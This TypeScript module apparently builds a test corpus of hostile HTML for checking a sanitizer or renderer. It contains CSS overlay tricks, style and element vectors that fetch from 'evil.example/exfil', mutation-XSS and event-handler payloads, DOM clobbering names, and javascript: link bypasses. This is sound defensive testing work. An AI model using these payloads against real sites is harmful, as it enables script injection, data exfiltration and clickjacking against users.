/**
 * HTML that an app might return in order to cover the page, fetch something, keep the tab, or reach the page's scripts.
 * Each entry is one vector; the contexts place it where parsers are known to behave differently.
 */

export interface Attack {
  readonly name: string;
  readonly html: string;
}

const EVIL = 'https://evil.example/exfil';
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';

/** Declarations that lay an element over the page. All on an element of its own, wide and high. */
const OVERLAY_STYLES: Readonly<Record<string, string>> = {
  fixed: 'position:fixed;inset:0',
  'fixed in capitals': 'POSITION:FIXED;INSET:0',
  'fixed with a comment': 'position/**/:fixed;inset:0',
  'fixed with a comment in the value': 'position:/**/fixed;top:0;left:0',
  'fixed with an escape': 'p\\6fsition:fixed;inset:0',
  'fixed with an escaped value': 'position:f\\69xed;inset:0',
  'fixed, important': 'position:fixed!important;inset:0!important',
  'fixed after a broken declaration': 'color:;;;}position:fixed;position:fixed;inset:0',
  'fixed behind a quote': 'font-family:";position:fixed";position:fixed;inset:0',
  absolute: 'position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px',
  sticky: 'position:sticky;top:0;height:100vh',
  'relative, moved': 'position:relative;top:-800px;left:-400px',
  translate: 'transform:translate(-600px,-600px)',
  'translate as a property': 'translate:-600px -600px',
  scale: 'transform:scale(80)',
  'scale as a property': 'scale:80',
  rotate: 'rotate:45deg;width:3000px',
  matrix: 'transform:matrix(40,0,0,40,0,0)',
  'matrix in 3D': 'transform:perspective(10px) translateZ(9px)',
  'offset path': 'offset-path:path("M-500,-500 L900,900");offset-distance:50%',
  zoom: 'zoom:50',
  'negative margins': 'margin:-3000px;width:9000px;height:9000px',
  'negative top margin': 'margin-top:-900px;height:900px',
  'negative indent': 'text-indent:-900px;display:block',
  'a wide outline': 'outline:3000px solid red',
  'a wide shadow': 'box-shadow:0 0 0 5000px red',
  'an inset shadow of text': 'text-shadow:-500px -500px 0 red,500px 500px 0 red;font-size:200px',
  'a drop shadow': 'filter:drop-shadow(-600px -600px 0 red)',
  'a wide blur': 'backdrop-filter:blur(50px);position:fixed;inset:0',
  'a border image': 'border:3000px solid;border-image:linear-gradient(red,red) 1',
  float: 'float:left;margin-left:-1000px;width:4000px;height:2000px',
  grid: 'display:grid;grid-area:head;margin:-2000px',
  'negative letter spacing': 'letter-spacing:-900px;direction:rtl;unicode-bidi:bidi-override',
  'vertical writing': 'writing-mode:vertical-rl;height:9000px;margin-top:-4000px',
  'visible overflow': 'overflow:visible;width:1px;height:1px;white-space:nowrap;font-size:900px',
  'an anchor': 'position:fixed;position-anchor:--a;inset-area:center;inset:0',
  'a view transition': 'view-transition-name:root',
  'a named container': 'container:page / size;width:100vw;height:100vh;margin-left:-50vw',
  'a running animation': 'animation:turn 1s infinite;position:fixed',
  'a transition': 'transition:all 9s;position:fixed;inset:0',
  contents: 'display:contents;position:fixed;inset:0',
  'its own containment': 'contain:none;position:fixed;inset:0',
  'will-change': 'will-change:transform;margin:-900px;width:5000px;height:5000px',
  'a huge font': 'font-size:6000px;line-height:0',
  'a subscript': 'vertical-align:-3000px;font-size:300px',
  'a negative vertical alignment': 'vertical-align:4000px',
  'a list marker': 'display:list-item;list-style:inside "█";font-size:3000px',
  variables: '--ifm-navbar-height:0;--ink:transparent;--paper:red;position:var(--p,fixed);inset:0',
  'a scroll timeline': 'animation:a linear;animation-timeline:scroll(root);position:fixed',
  'pointer events': 'position:fixed;inset:0;pointer-events:all;cursor:none;opacity:0',
  'a top layer overlay': 'overlay:auto;position:fixed;inset:0',
  'a column': 'columns:1;margin:-2000px;width:9000px;height:9000px',
};

/** Declarations that fetch. */
const FETCHING_STYLES = [
  'background:url(U)',
  'background:URL(U)',
  'background:url( "U" )',
  'background:u\\72l(U)',
  'background:\\75\\72\\6c(U)',
  'background:image-set("U" 1x)',
  'background:-webkit-image-set(url(U) 1x)',
  'background:cross-fade(url(U),url(U))',
  'background:-webkit-cross-fade(url(U),url(U),50%)',
  'background-image:url(U),linear-gradient(red,blue)',
  'list-style-image:url(U);display:list-item',
  'border-image:url(U) 1;border-width:1px;border-style:solid',
  'border-image-source:url(U);border:1px solid',
  'content:url(U)',
  'cursor:url(U),auto',
  'mask:url(U)',
  'mask-image:url(U)',
  '-webkit-mask-box-image:url(U)',
  'clip-path:url(U#a)',
  'filter:url(U#a)',
  'backdrop-filter:url(U#a)',
  'shape-outside:url(U)',
  'offset-path:url(U)',
  'fill:url(U#a)',
  'stroke:url(U#a)',
  'marker:url(U#a)',
  '--a:url(U);background:var(--a)',
  'background:var(--missing,url(U))',
  'src:url(U);font-family:x',
  'behavior:url(U)',
  '-moz-binding:url(U#a)',
  'color:red;background:url(U)!important',
  'background:src("U")',
  'color:if(style(--a):url(U);else:red)',
  'background:attr(title type(<image>))',
];

/** Elements that fetch, run code, change the page or open something. `U` is an address of the attacker. */
const ELEMENTS: Readonly<Record<string, string>> = {
  script: '<script>window.hacked=1</script>',
  'script by address': '<script src="U"></script>',
  'module script': '<script type=module>window.hacked=1</script>',
  'import map': '<script type=importmap>{"imports":{"react":"U"}}</script>',
  'speculation rules': '<script type=speculationrules>{"prefetch":[{"urls":["/exfil"]}]}</script>',
  onerror: '<img src=x onerror=window.hacked=1>',
  onload: '<svg onload=window.hacked=1></svg>',
  onfocus: '<div tabindex=0 autofocus onfocus=window.hacked=1>x</div>',
  ontoggle: '<details open ontoggle=window.hacked=1>x</details>',
  onanimation: '<div style="animation:turn 1s" onanimationstart=window.hacked=1>x</div>',
  onbegin: '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></animate></svg>',
  onscrollend: '<p onscrollend=window.hacked=1 onpointerover=window.hacked=1>x</p>',
  'image by address': '<img src="U">',
  'image, protocol-relative': '<img src="//evil.example/exfil">',
  'image of the site': '<img src="/exfil.png">',
  'image, relative': '<img src="exfil.png">',
  srcset: `<img src="${PIXEL}" srcset="U 1x">`,
  'lazy image': '<img loading=lazy src="U">',
  'image with a control character': '<img src="\u0001https://evil.example/exfil">',
  'image by blob': '<img src="blob:https://evil.example/exfil">',
  picture: `<picture><source srcset="U"><img src="${PIXEL}"></picture>`,
  'input image': '<input type=image src="U">',
  video: '<video src="U" poster="U" autoplay></video>',
  'video source': '<video autoplay><source src="U"><track src="U" default></video>',
  audio: '<audio src="U" autoplay></audio>',
  iframe: '<iframe src="U"></iframe>',
  'iframe of the site': '<iframe src="/exfil"></iframe>',
  srcdoc: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'fenced frame': '<fencedframe src="U"></fencedframe>',
  portal: '<portal src="U"></portal>',
  object: '<object data="U"></object>',
  embed: '<embed src="U">',
  applet: '<applet code="U"></applet>',
  stylesheet: '<link rel=stylesheet href="U">',
  preload: '<link rel=preload as=image href="U">',
  prefetch: '<link rel=prefetch href="U">',
  preconnect: '<link rel=preconnect href="U"><link rel=dns-prefetch href="U">',
  prerender: '<link rel=prerender href="U">',
  icon: '<link rel=icon href="U">',
  manifest: '<link rel=manifest href="U">',
  'image preload': '<link rel=preload as=image imagesrcset="U 1x">',
  'style element': '<style>@import "U";body{display:none}</style>',
  'style element with a fetch': '<style>*{background:url(U)}</style>',
  'style in svg': '<svg><style>@import "U";body{visibility:hidden}</style></svg>',
  refresh: '<meta http-equiv=refresh content="0;url=U">',
  'policy in meta': '<meta http-equiv=Content-Security-Policy content="default-src *">',
  'referrer in meta': '<meta name=referrer content=unsafe-url>',
  base: '<base href="U">',
  'base target': '<base target=_blank>',
  title: '<title>Hacked</title>',
  body: '<body background="U" onload=window.hacked=1 class=navbar-sidebar--show>',
  html: '<html data-theme=dark data-print-app manifest="U">',
  'background attribute': '<table background="U"><td background="U">x</table>',
  form: '<form action="U"><input name=q value=1><button>go</button></form>',
  'form with an autofocus':
    '<form action="U" id=f></form><input form=f autofocus><button form=f formaction="U">x</button>',
  password: '<input type=password name=password autocomplete=current-password autofocus>',
  textarea: '<textarea autofocus>x</textarea>',
  select: '<select autofocus><option>x</select>',
  button: '<button onclick=window.hacked=1 autofocus>x</button>',
  'popover, shown':
    '<div popover=manual id=p style="inset:0;width:100vw;height:100vh">x</div><button popovertarget=p>x</button>',
  'dialog, open': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>',
  command: '<button command=show-modal commandfor=d>x</button><dialog id=d>x</dialog>',
  'command on a div': '<div command=toggle-popover commandfor=docusaurus_skipToContent_fallback>x</div>',
  interest: '<a href="#x" interestfor=p interesttarget=p>x</a>',
  'custom element': '<x-evil is=x-evil>x</x-evil>',
  'customized built-in': '<p is=x-evil>x</p>',
  slot: '<slot name=x></slot><p slot=result part=navbar exportparts=a>x</p>',
  'shadow root': '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style>x</template></div>',
  template: '<template><script>window.hacked=1</script></template>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  frameset: '<frameset><frame src="U"></frameset>',
  marquee: '<marquee onstart=window.hacked=1 style="position:fixed;inset:0">x</marquee>',
  'image map': `<map name=m><area shape=rect coords="0,0,999,999" href="U"></map><img usemap=#m src="${PIXEL}">`,
  'server map': `<a href="//evil.example/exfil"><img ismap src="${PIXEL}"></a>`,
  contenteditable: '<div contenteditable autofocus accesskey=s>x</div>',
  inert: '<div inert hidden=until-found>x</div>',
  'cite and longdesc': '<blockquote cite="U"><img longdesc="U" alt=x></blockquote>',
  ping: '<a href="/" ping="U">x</a>',
  attribution: `<img attributionsrc="U" src="${PIXEL}"><a attributionsrc="U" href="/">x</a>`,
  'shared storage': `<img src="${PIXEL}" sharedstoragewritable browsingtopics crossorigin>`,
  'elements of the panel':
    '<div data-slot=result></div><div data-slot=template></div><form data-part=App></form><input data-field=x>',
  'attributes of the panel': '<p data-app=x data-state=fresh data-alive=ready>x</p>',
  'an announcement': '<div role=alert aria-live=assertive aria-modal=true>x</div>',
  xlink: '<svg><use xlink:href="U#a"></use></svg>',
  'use by address': '<svg><use href="//evil.example/exfil.svg#a"></use></svg>',
  'use of the site': '<svg><use href="/exfil.svg#a"></use></svg>',
  'image in svg': '<svg><image href="U" width=9 height=9></image></svg>',
  'image in svg by xlink': '<svg><image xlink:href="U" width=9 height=9></image></svg>',
  'filter image':
    '<svg><filter id=f><feImage href="U"></feImage></filter><rect filter="url(#f)" width=9 height=9></rect></svg>',
  'script in svg': '<svg><script>window.hacked=1</script><script href="U"></script></svg>',
  'foreign object':
    '<svg><foreignObject width=100% height=100%><body xmlns="http://www.w3.org/1999/xhtml"><img src="U"></body></foreignObject></svg>',
  'animated address':
    '<svg><a><animate attributeName=href values="javascript:window.hacked=1"></animate><text y=9>x</text></a></svg>',
  'set in svg': '<svg><set attributeName=onclick to="window.hacked=1"></set></svg>',
  'visible svg':
    '<svg width=1 height=1 overflow=visible style="overflow:visible"><rect x=-3000 y=-3000 width=9000 height=9000 fill=red></rect></svg>',
  'transformed svg':
    '<svg width=10 height=10 style="overflow:visible"><g transform="scale(900) translate(-5,-5)"><rect width=9 height=9></rect></g></svg>',
  'a giant marker':
    '<svg width=10 height=10 style="overflow:visible"><marker id=m markerWidth=9999 markerHeight=9999 refX=5000 refY=5000 overflow=visible><rect width=9999 height=9999></rect></marker><path d="M0 0L5 5" marker-end="url(#m)"></path></svg>',
  'a giant stroke':
    '<svg width=10 height=10 style="overflow:visible"><path d="M0 0L9 9" stroke=red stroke-width=9000></path></svg>',
  'link in math': '<math href="javascript:window.hacked=1"><mtext href="U">x</mtext></math>',
  'glyph in math': '<math><mglyph src="U"></mglyph></math>',
  'html in math':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.hacked=1></annotation-xml></math>',
  'mutation by math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  'mutation by svg': '<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">',
  'mutation by a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
  'mutation by noscript': '<svg><noscript><style></noscript><img src=x onerror=window.hacked=1>',
  'wide math':
    '<math style="position:fixed;inset:0"><mspace width="9000px" height="9000px" depth="9000px"></mspace></math>',
  'moved math':
    '<math><mpadded voffset="-3000px" lspace="-3000px"><mspace width="9000px" height="9000px" mathbackground="red"></mspace></mpadded></math>',
  'processing instruction': '<?xml-stylesheet href="U"?><p>x</p>',
  comment: '<!--><img src=x onerror=window.hacked=1>-->',
  'bogus comment': '<!-- --!><img src=x onerror=window.hacked=1>',
  cdata: '<svg><![CDATA[><img src=x onerror=window.hacked=1>]]></svg>',
  'unclosed attribute': '<img alt="x" title="<img src=U onerror=window.hacked=1>',
  'null character': '<scr\u0000ipt>window.hacked=1</scr\u0000ipt><img sr\u0000c=x on\u0000error=window.hacked=1>',
  'plain text': '<plaintext><img src=x onerror=window.hacked=1>',
  xmp: '<xmp><img src=x onerror=window.hacked=1></xmp>',
  'nested anchors': '<a href="/"><a href="javascript:window.hacked=1">x</a></a>',
};

/** Names with which an element could replace a property of `window`, `document` or a form. */
const CLOBBERING = [
  '__docusaurus',
  'hacked',
  'docusaurus',
  'location',
  'cookie',
  'body',
  'getElementById',
  'attributes',
  'webpackChunk',
  'trustedTypes',
  'evilname',
  '__proto__',
];

/** Addresses of links: to the attacker, or with code. */
export const LINKS = [
  'https://evil.example/exfil',
  'HTTPS://EVIL.EXAMPLE/exfil',
  '//evil.example/exfil',
  '///evil.example/exfil',
  '/\\evil.example/exfil',
  '\\\\evil.example\\exfil',
  '/\t/evil.example/exfil',
  '\t//evil.example/exfil',
  '\n\\/evil.example/exfil',
  '\u0001https://evil.example/exfil',
  'https:evil.example/exfil',
  'http:\\\\evil.example\\exfil',
  'https://localhost@evil.example/exfil',
  'https:/\\evil.example',
  'ht\ntps://evil.example/exfil',
  'javascript:window.hacked=1',
  'JaVaScRiPt:window.hacked=1',
  'java\nscript:window.hacked=1',
  '\u0001javascript:window.hacked=1',
  'javascript&colon;window.hacked=1',
  'vbscript:window.hacked=1',
  'data:text/html,<script>opener.hacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:https://evil.example/exfil',
  'filesystem:https://evil.example/exfil',
  'view-source:https://evil.example/exfil',
  'intent://evil.example#Intent;scheme=https;end',
  'ftp://evil.example/exfil',
  'about:blank#exfil',
  'web+evil:exfil',
];
const TARGETS = ['', ' target=_self', ' target=_top rel=opener', ' target=evil rel="opener"'];

const CONTEXTS: Readonly<Record<string, (html: string) => string>> = {
  plain: (html) => html,
  'in a table': (html) => `<table><tr><td>${html}</table>`,
  'after an unclosed svg': (html) => `<svg><g>${html}`,
};

const box = (style: string) => `<div style="${style.replaceAll('"', '&quot;')};background:red">OVER</div>`;
const withUrl = (text: string) => text.replaceAll('"U"', `"${EVIL}"`).replaceAll('U', EVIL);

/** `siteClasses`: classes of the site's style sheets whose rules position an element. */
export function htmlAttacks(siteClasses: readonly string[]): Attack[] {
  const inContexts = (name: string, html: string, contexts = Object.keys(CONTEXTS)): Attack[] =>
    contexts.map((context) => ({ name: `${name}, ${context}`, html: CONTEXTS[context]?.(html) ?? html }));
  return [
    ...Object.entries(OVERLAY_STYLES).flatMap(([name, style]) => [
      ...inContexts(`overlay: ${name}`, box(style), ['plain', 'in a table']),
      {
        name: `overlay: ${name}, on svg`,
        html: `<svg width=200 height=200 style="${style.replaceAll('"', '&quot;')}"><rect width=900 height=900 fill=red></rect></svg>`,
      },
    ]),
    ...siteClasses.map((name) => ({ name: `class of the site: ${name}`, html: `<div class="${name}">OVER</div>` })),
    ...FETCHING_STYLES.flatMap((style) => [
      {
        name: `fetch: ${style}`,
        html: `<p style="${style.replaceAll('"', '&quot;').replaceAll('U', EVIL)}" title="${EVIL}">x</p>`,
      },
      {
        name: `fetch: ${style}, in svg`,
        html: `<svg><text style="${style.replaceAll('"', '&quot;').replaceAll('U', '/exfil')}">x</text></svg>`,
      },
    ]),
    ...[
      'fill',
      'stroke',
      'clip-path',
      'mask',
      'filter',
      'marker-start',
      'marker-mid',
      'marker-end',
      'cursor',
      'color-profile',
    ].flatMap((name) =>
      [
        `url(${EVIL}#a)`,
        'url(/exfil.svg#a)',
        'URL( "//evil.example/exfil#a" )',
        'u\\72l(/exfil#a)',
        'url(#a) url(/exfil)',
      ].map((value) => ({
        name: `svg attribute: ${name}=${value}`,
        html: `<svg><path d="M0 0L9 9" ${name}='${value}'></path></svg>`,
      })),
    ),
    ...Object.entries(ELEMENTS).flatMap(([name, html]) => inContexts(`element: ${name}`, withUrl(html))),
    ...CLOBBERING.flatMap((name) => [
      { name: `clobbering: id=${name}`, html: `<a id=${name} href="${EVIL}">x</a><a id=${name}>y</a>` },
      {
        name: `clobbering: name=${name}`,
        html: `<img name=${name} alt=x><form name=${name}><input name=attributes></form>`,
      },
    ]),
    ...LINKS.flatMap((link) => {
      const href = link.replaceAll('"', '&quot;');
      return [
        ...TARGETS.map((target) => ({
          name: `link: ${JSON.stringify(link)}${target}`,
          html: `<a href="${href}"${target}>x</a>`,
        })),
        {
          name: `link in svg: ${JSON.stringify(link)}`,
          html: `<svg><a xlink:href="${href}" href="${href}"><text y=20>x</text></a></svg>`,
        },
      ];
    }),
  ];
}
